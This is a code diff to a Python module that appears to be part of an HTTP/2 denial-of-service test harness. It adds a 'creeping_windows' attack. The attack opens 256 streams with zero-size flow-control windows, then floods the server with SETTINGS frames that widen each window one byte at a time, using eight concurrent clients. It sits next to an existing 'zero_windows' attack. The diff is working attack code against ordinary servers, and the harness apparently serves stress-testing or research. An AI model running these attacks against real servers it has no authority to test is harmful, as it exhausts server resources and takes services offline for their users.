@@ -1,14 +1,20 @@
 """Windows of no size, and replies that nobody takes."""
 
 from attack import Attack
+from attacker import LISTEN
+from effort import Effort
 from http2_bytes import INITIAL_WINDOW_SIZE, PREFACE, settings, window_update
 from questions import asked, classify, streams
 
 SHUT = PREFACE + settings((INITIAL_WINDOW_SIZE, 0))
 # Cheap to compute; the reply is twice as long.
 MANY_ROWS = classify("xor", 4_000, 2)
+SOME_ROWS = classify("xor", 100, 2)
 CALLS = 256  # as many as a connection may have
 CALLS_AT_ONCE = 4
+CREEPERS = 8
+STEPS_A_BLOB = 100
+MOST_STEPS = 20_000
 # So that the server can compute what it has been asked: what it refuses for
 # want of time takes no memory.
 PAUSE_SECONDS = 0.02
@@ -35,4 +41,27 @@ def zero_windows(crowd, scale):
             "0")
 
 
-ATTACKS = [Attack("zero_windows", zero_windows, network_mib=64, request_mib=1)]
+def creeping_windows(crowd, scale):
+    """SETTINGS that widen every stream's window by one byte."""
+    calls = b"".join(asked(stream, SOME_ROWS) for stream in streams(CALLS))
+    steps = [b"".join(settings((INITIAL_WINDOW_SIZE, size))
+                      for size in range(first, first + STEPS_A_BLOB))
+             for first in range(1, MOST_STEPS, STEPS_A_BLOB)]
+    effort = Effort(scale.frames // 50, scale.seconds)
+
+    def script(me):
+        yield SHUT + calls
+        yield PAUSE_SECONDS
+        for blob in steps:
+            yield blob
+            effort.add(STEPS_A_BLOB)
+            if effort.enough:
+                return
+        yield LISTEN
+
+    crowd.run(effort.repeat(script), CREEPERS)
+    return f"{effort.done:,} SETTINGS that widen {CALLS} windows by 1"
+
+
+ATTACKS = [Attack("creeping_windows", creeping_windows),
+           Attack("zero_windows", zero_windows, network_mib=64, request_mib=1)]
